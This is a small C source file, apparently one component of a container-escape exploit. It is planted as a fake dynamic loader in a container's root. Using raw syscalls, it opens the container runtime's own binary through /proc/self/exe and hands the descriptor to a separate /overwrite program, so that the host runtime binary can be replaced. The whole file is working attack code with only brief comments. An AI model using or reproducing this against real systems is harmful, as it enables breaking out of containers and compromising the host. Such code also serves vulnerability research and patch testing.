// Stands in the container's root as the dynamic loader: where the runtime's program is made to execute itself inside
// the container, this runs in its place and hands the program's own file to /overwrite. No C library.
static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

void _start(void) {
    static char *words[] = {"/overwrite", "held", "9", 0}, *none[] = {0};
    call(33, call(2, (long)"/proc/self/exe", 0, 0), 9, 0);          // dup2(open(O_RDONLY), 9)
    call(59, (long)words[0], (long)words, (long)none);              // execve
    call(60, 1, 0, 0);                                              // exit
}
